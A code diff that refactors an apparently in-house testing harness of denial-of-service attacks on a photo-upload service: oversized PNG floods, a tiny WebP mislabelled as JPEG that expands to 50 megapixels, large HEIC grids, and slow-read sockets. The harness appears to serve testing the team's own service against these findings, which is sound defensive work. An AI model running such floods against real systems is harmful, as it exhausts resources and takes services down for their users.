@@ -1,18 +1,18 @@
 import { createHash } from 'node:crypto';
 import { readFile } from 'node:fs/promises';
-import { heicGrid } from '../../../support/heic-grid.ts';
+import { createHeicGrid } from '../../../support/heic-grid.ts';
 import { box } from '../../../support/images.ts';
 import { type Attack, type AttackSession, get, post } from '../attack.ts';
 import { createLargePng, createScannedJpeg, createTinyWebp } from '../hostile-images.ts';
 import type { Attacker } from '../scenario.ts';
 
-export interface Reference {
+export interface AttachmentReference {
   key: string;
   regionId: string;
   type: string;
 }
 
-/** A signed upload URL of the attacker without the origin, and the declared file. */
+/** Returns the path of a signed upload URL of the attacker, and the reference of the file; null if rejected. */
 export async function presign(
   session: AttackSession,
   attacker: Attacker,
@@ -27,11 +27,11 @@ export async function presign(
   if (status !== 200) return null;
   const { uploadUrl, key, regionId, type } = JSON.parse(body);
   const { pathname, search } = new URL(uploadUrl);
-  const reference: Reference = { key, regionId, type };
+  const reference: AttachmentReference = { key, regionId, type };
   return { path: `${pathname}${search}`, reference };
 }
 
-/** Uploads the bytes and returns the reference; null when the service rejects them. */
+/** Uploads the bytes. Returns their reference; null if rejected. */
 export async function upload(
   session: AttackSession,
   attacker: Attacker,
@@ -46,48 +46,53 @@ export async function upload(
   return status === 200 ? intent.reference : null;
 }
 
-function createPhoto(attacker: Attacker, number: number, imageAttachment: Reference, contentType?: string) {
+function createPhotoRequest(
+  attacker: Attacker,
+  number: number,
+  imageAttachment: AttachmentReference,
+  contentType?: string,
+) {
   const body = { fileName: 'site', imageAttachment, contentType };
   return post(attacker, number, `/builders/${attacker.builderId}/photos`, body);
 }
 
-/** Uploads images that differ in their last bytes and consumes them, so many at a time, until the attack is over. */
-async function consumeImages(
+/** Uploads images that differ in their last bytes and creates photos of them, until the attack is over. */
+async function createPhotos(
   session: AttackSession,
   attacker: Attacker,
-  atATime: number,
+  concurrency: number,
   image: Buffer,
   contentType: string,
 ): Promise<void> {
   let seed = 0;
-  const client = session.client(atATime);
+  const client = session.client(concurrency);
   const work = async () => {
     while (!session.isOver) {
       const number = seed++;
-      const seal = createHash('sha256').update(`${number}`).digest();
-      const bytes = Buffer.concat([image, contentType === 'image/heic' ? box('free', seal) : seal]);
+      const suffix = createHash('sha256').update(`${number}`).digest();
+      const bytes = Buffer.concat([image, contentType === 'image/heic' ? box('free', suffix) : suffix]);
       const reference = await upload(session, attacker, bytes, contentType, number);
-      if (reference) await session.send(client, createPhoto(attacker, number, reference));
+      if (reference) await session.send(client, createPhotoRequest(attacker, number, reference));
       else await new Promise((done) => setTimeout(done, 50));
     }
   };
-  await Promise.all(Array.from({ length: atATime }, work));
+  await Promise.all(Array.from({ length: concurrency }, work));
 }
 
 export const imageAttacks: Attack[] = [
   {
-    ...{ name: 'images-large', row: '2a', short: true },
+    ...{ name: 'images-large', finding: '2a', short: true },
     about: 'Eight photo creates at once, all the time, each of a new PNG of 200 megapixels',
-    run: (session) => consumeImages(session, session.attacker, 8, createLargePng(14_142, 14_142, 0), 'image/png'),
+    run: (session) => createPhotos(session, session.attacker, 8, createLargePng(14_142, 14_142, 0), 'image/png'),
   },
   {
-    ...{ name: 'images-mislabelled', row: '2b', short: true },
+    ...{ name: 'images-mislabelled', finding: '2b', short: true },
     about: 'A WebP of 50 megapixels in 28 bytes, declared as a JPEG: twenty creates at once that name one upload',
     run: async (session) => {
       const { attacker } = session;
       const reference = await upload(session, attacker, createTinyWebp(7_071, 7_071), 'image/jpeg');
       if (!reference) throw new Error('The upload was refused.');
-      await session.flood(20, (number) => createPhoto(attacker, number, reference));
+      await session.flood(20, (number) => createPhotoRequest(attacker, number, reference));
     },
   },
   {
@@ -101,7 +106,7 @@ export const imageAttacks: Attack[] = [
       const work = async (first: number) => {
         for (let number = first; !session.isOver; number++) {
           const reference = await upload(session, attacker, bytes, 'image/webp', number);
-          if (reference) await session.send(client, createPhoto(attacker, number, reference));
+          if (reference) await session.send(client, createPhotoRequest(attacker, number, reference));
         }
       };
       await Promise.all(Array.from({ length: 20 }, (_, at) => work(at)));
@@ -144,7 +149,7 @@ export const imageAttacks: Attack[] = [
     run: (session) => {
       const image = createLargePng(14_142, 14_142, 0);
       const { attackers } = session.scenario;
-      return Promise.all(attackers.map((attacker) => consumeImages(session, attacker, 8, image, 'image/png')));
+      return Promise.all(attackers.map((attacker) => createPhotos(session, attacker, 8, image, 'image/png')));
     },
   },
   {
@@ -153,7 +158,7 @@ export const imageAttacks: Attack[] = [
     run: (session) => {
       const image = createLargePng(6_000, 4_000, 0);
       const { attackers } = session.scenario;
-      return Promise.all(attackers.map((attacker) => consumeImages(session, attacker, 20, image, 'image/png')));
+      return Promise.all(attackers.map((attacker) => createPhotos(session, attacker, 20, image, 'image/png')));
     },
   },
   {
@@ -162,7 +167,7 @@ export const imageAttacks: Attack[] = [
     run: (session) => {
       const image = createScannedJpeg(2_560, 1_920, 10_000);
       const { attackers } = session.scenario;
-      return Promise.all(attackers.map((attacker) => consumeImages(session, attacker, 20, image, 'image/jpeg')));
+      return Promise.all(attackers.map((attacker) => createPhotos(session, attacker, 20, image, 'image/jpeg')));
     },
   },
   {
@@ -170,9 +175,9 @@ export const imageAttacks: Attack[] = [
     about: 'Two integrators: HEIC photos of 48 megapixels, eight creates at once each, which the jobs render',
     run: async (session) => {
       const tile = await readFile('test/fixtures/heic/tile.heic');
-      const image = heicGrid(tile, { columns: 16, rows: 12, width: 8_064, height: 6_048 });
+      const image = createHeicGrid(tile, { columns: 16, rows: 12, width: 8_064, height: 6_048 });
       const { attackers } = session.scenario;
-      await Promise.all(attackers.map((attacker) => consumeImages(session, attacker, 8, image, 'image/heic')));
+      await Promise.all(attackers.map((attacker) => createPhotos(session, attacker, 8, image, 'image/heic')));
     },
   },
   {
@@ -193,7 +198,7 @@ export const imageAttacks: Attack[] = [
       const response = await session.send(session.client(1, 100_000), { method: 'POST', path, headers, body });
       const { pathname, search } = new URL(JSON.parse(response.body).imageUrl);
       for (let at = 0; at < 100; at++) {
-        const socket = session.open(`GET ${pathname}${search} HTTP/1.1\r\nhost: localhost\r\n\r\n`);
+        const socket = session.openSocket(`GET ${pathname}${search} HTTP/1.1\r\nhost: localhost\r\n\r\n`);
         socket.pause();
         setInterval(() => socket.read(1_024), 200).unref();
       }
